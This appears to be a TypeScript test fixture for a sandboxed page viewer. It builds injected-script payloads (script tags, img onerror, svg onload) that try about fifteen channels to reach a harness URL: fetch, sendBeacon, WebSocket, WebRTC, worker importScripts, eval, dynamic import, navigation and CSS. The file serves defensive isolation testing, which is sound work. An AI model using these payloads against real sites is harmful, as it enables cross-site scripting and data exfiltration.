import { body, type Family, wrap } from '../attack.ts'

/** What a script would do if it ran: each way out alone, so that none hides another. */
const way = (name: string, code: (url: (name: string) => string) => string) =>
  body(name, ({ url }) => {
    const script = code(url)
    const attr = script.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
    return `<script>${script}</script><img src="data:x" onerror="${attr}"><svg onload="${attr}"></svg>`
  })

export const channel: Family = {
  name: 'way out',
  attacks: [
    way('fetch', (url) => `fetch('${url('f')}',{mode:'no-cors',method:'POST',body:'x'})`),
    way('beacon', (url) => `navigator.sendBeacon('${url('b')}','x')`),
    way('socket', (url) => `new WebSocket('${url('s').replace('http', 'ws')}')`),
    way('event stream', (url) => `new EventSource('${url('e')}')`),
    way('request of old', (url) => `var x=new XMLHttpRequest;x.open('GET','${url('x')}');x.send()`),
    way('peer connection', (url) => `new Image().src='${url('p.gif')}';var p=new RTCPeerConnection({iceServers:[{urls:'stun:${/\/\/([^/]+)/.exec(url(''))![1]}'}]});p.createDataChannel('x');p.createOffer().then(function(o){p.setLocalDescription(o)})`),
    way('worker', (url) => `new Image().src='${url('w.gif')}';new Worker(URL.createObjectURL(new Blob(['importScripts("${url('w.js')}")'])))`),
    way('opened window', (url) => `open('${url('o.html')}');new Image().src='${url('o.gif')}'`),
    way('the top’s address', (url) => `top.location='${url('t.html')}'`),
    way('its own address', (url) => `location='${url('l.html')}'`),
    way('storage, cookies and channels', (url) => `new Image().src='${url('c.gif')}';document.cookie='attack=1';localStorage.attack=1;new BroadcastChannel('attack').postMessage('ran')`),
    way('code from text', (url) => `setTimeout('new Image().src="${url('t.gif')}"');new Function('fetch("${url('n')}")')();eval('1')`),
    way('an import', (url) => `import('${url('i.mjs')}')`),
    way('a message to the viewer', (url) => `parent.postMessage('playhead-frame','*',[new MessageChannel().port2]);parent.postMessage({type:'shown'},'*');new Image().src='${url('m.gif')}'`),
    {
      name: 'a view transition',
      page: ({ url }) => wrap(`<p style="view-transition-name:x">x</p>`, `<style>@view-transition{navigation:auto}::view-transition-new(x){background:url(${url('v.gif')})}p{background:url(${url('p.gif')})}</style>`),
      events: () => [
        { type: 'viewTransition', phase: 'start' },
        { type: 'viewTransition', phase: 'ready' },
        { type: 'viewTransition', phase: 'finished' },
      ],
    },
  ],
} // prettier-ignore
